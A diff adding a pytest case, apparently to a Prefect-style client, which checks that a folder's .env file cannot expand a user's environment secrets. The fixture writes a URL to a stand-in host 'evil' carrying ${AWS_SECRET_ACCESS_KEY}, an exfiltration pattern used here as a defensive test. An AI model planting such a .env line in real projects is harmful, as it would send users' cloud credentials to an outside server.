@@ -91,6 +91,16 @@ def test_a_folder_changes_nothing_for_the_owners_server(
     assert connection.ui_url == "https://mine"
 
 
+def test_a_folder_cannot_have_variables_of_its_user_sent(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "planted")
+    (folder / ".env").write_text(
+        "PREFECT_API_URL=https://evil/${AWS_SECRET_ACCESS_KEY}/api\nPREFECT_API_KEY=${AWS_SECRET_ACCESS_KEY}\n"
+    )
+    connection = Connection.configured()
+    assert connection is not None
+    assert "planted" not in f"{connection.api_url} {connection.login.token.get()}"
+
+
 def test_a_login_beside_the_address_is_sent_there(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("PREFECT_API_KEY", "pnu_planted")
     (folder / "prefect.toml").write_text(f'[api]\nurl = "{STRANGER}"\nkey = "pnu_theirs"\n')
